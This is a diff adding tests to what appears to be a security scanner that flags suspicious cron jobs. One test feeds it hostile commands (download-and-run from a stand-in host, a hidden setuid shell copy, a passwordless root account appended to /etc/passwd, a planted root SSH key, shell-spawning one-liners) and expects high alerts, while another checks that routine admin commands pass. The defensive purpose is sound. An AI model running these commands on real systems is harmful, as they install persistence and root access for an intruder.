@@ -168,4 +168,26 @@ import Testing
         let shown = try await tree.findings().flatMap(\.evidence).map(\.excerpt)
         #expect(shown == ["1 2 * * * root /tmp/a\\x1b[2J"])
     }
+
+    @Test(arguments: [
+        ("curl http://e/x -o /usr/local/x; chmod +x /usr/local/x; /usr/local/x", "download"),
+        ("wget -qO /var/x http://e/x && sh /var/x", "download"),
+        ("cp /bin/bash /var/lib/.b; chmod 4755 /var/lib/.b", "setuid"),
+        ("echo \"t::0:0:::\" >> /etc/passwd", "access"), ("echo k | tee -a /root/.ssh/authorized_keys", "access"),
+        ("perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\")'", "connection"),
+        ("python3 -c 'import socket,pty;pty.spawn(\"/bin/sh\")'", "connection"),
+    ])
+    func `that prepare a way back are told`(_ command: String, _ kind: String) async throws {
+        let tree = try AccountTree(["/etc/cron.d/x": "* * * * * root \(command)\n"])
+        #expect(try await tree.told() == ["accounts.schedules \(kind) high"])
+    }
+
+    @Test(arguments: [
+        "curl -o /var/cache/list http://e/list && gzip /var/cache/list", "chmod 2775 /srv/share", "chmod g+s /srv",
+        "chmod 0755 /srv/x", "getent passwd >> /var/log/passwd",
+        "python3 -c 'import socket; print(socket.gethostname())'",
+    ])
+    func `that administrators write are not`(_ command: String) async throws {
+        #expect(try await AccountTree(["/etc/cron.d/x": "* * * * * root \(command)\n"]).told() == [])
+    }
 }
